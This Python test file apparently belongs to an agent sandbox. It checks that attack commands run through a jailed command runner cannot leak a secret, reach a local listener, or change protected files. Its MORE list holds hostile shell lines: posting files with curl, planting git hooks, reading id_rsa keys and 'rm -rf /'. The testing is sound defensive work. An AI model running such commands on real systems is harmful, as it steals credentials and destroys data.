"""The attacks that have worked once, run on trial without any question: nothing outside the workspace changes or hears,
and nothing in it that programs load by themselves.
"""

import asyncio
import subprocess

from planact.adapters.sandbox.runner.command_runner import CommandRunner
from tests.adversarial.test_rungs import ATTACKS, COMMITTED, SECRET, set_traps
from tests.fakes.ordinary_user import as_ordinary_user
from tests.sandbox.trial.ground import each_jail, picture, trial_runner, try_out
from tests.sandbox.yard import Yard

SECONDS = 5.0
FIXED = ("work/.git", "work/.planact", "work/.env", "work/real/.env", "work/bare")
MORE = (
    "curl -sd @app.py http://127.0.0.1:PORT; wget -qO- http://127.0.0.1:PORT; ssh -p PORT 127.0.0.1",
    "git config core.hooksPath . ; git commit -qam x; git checkout -b y; git stash; git gc; git worktree add ../w",
    "printf '#!/bin/sh\\n' > .git/hooks/pre-commit; git init -q sub; git config --global alias.x '!touch pwned'",
    "find / -name 'id_rsa' -exec cat {} + 2>/dev/null; find / -newer f -type f -user $(id -u) -delete 2>/dev/null",
    "rm -rf / --no-preserve-root 2>/dev/null; rm -rf ~ HOME 2>/dev/null",
)


async def attacked() -> list[str]:
    yard, heard = Yard.make(), []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(1_000))
        writer.close()

    listener = await asyncio.start_server(hear, "127.0.0.1", 0)
    port, wrong = listener.sockets[0].getsockname()[1], []
    try:
        set_traps(yard)
        allow_changes(yard)
        runner: CommandRunner = trial_runner(yard, {"DEPLOY_TOKEN": SECRET})
        before = held(yard)
        for line in (*ATTACKS, *MORE):
            text = line.replace("PORT", str(port)).replace("HOME", str(yard.home))
            output = (await try_out(runner, yard, text, seconds=SECONDS)).output
            if SECRET in output or (COMMITTED in output and "git" not in line):
                wrong.append(f"told the secret: {line}")
            if heard:
                wrong.append(f"spoke to the listener: {line}")
            if (after := held(yard)) != before:
                changed = sorted(path for path in {*before, *after} if before.get(path) != after.get(path))
                wrong.append(f"changed {changed[:3]}: {line}")
                before = after
            heard.clear()
        output = (await try_out(runner, yard, "mkdir -p build; echo x > build/written")).output
        assert (yard.workspace / "build/written").exists(), output
    finally:
        listener.close()
        yard.remove()
    return wrong


def allow_changes(yard: Yard) -> None:
    """Unset hooks in the folder itself, for which nothing in it could change."""
    unset = ("git", "config", "--unset", "core.hooksPath")
    subprocess.run(unset, cwd=yard.workspace, env=yard.environment, check=True)


def held(yard: Yard) -> dict[str, tuple[object, ...]]:
    """Return what may not change: all outside the workspace, and in it what programs load by themselves."""
    return {
        path: look
        for path, look in picture(yard).items()
        if not path.startswith("work/") or any(f"{path}/".startswith(f"{name}/") for name in FIXED)
    }


@each_jail
def test_no_attack_reaches_out_of_the_workspace_or_stays_in_it() -> None:
    assert as_ordinary_user(attacked, timeout=300) == []
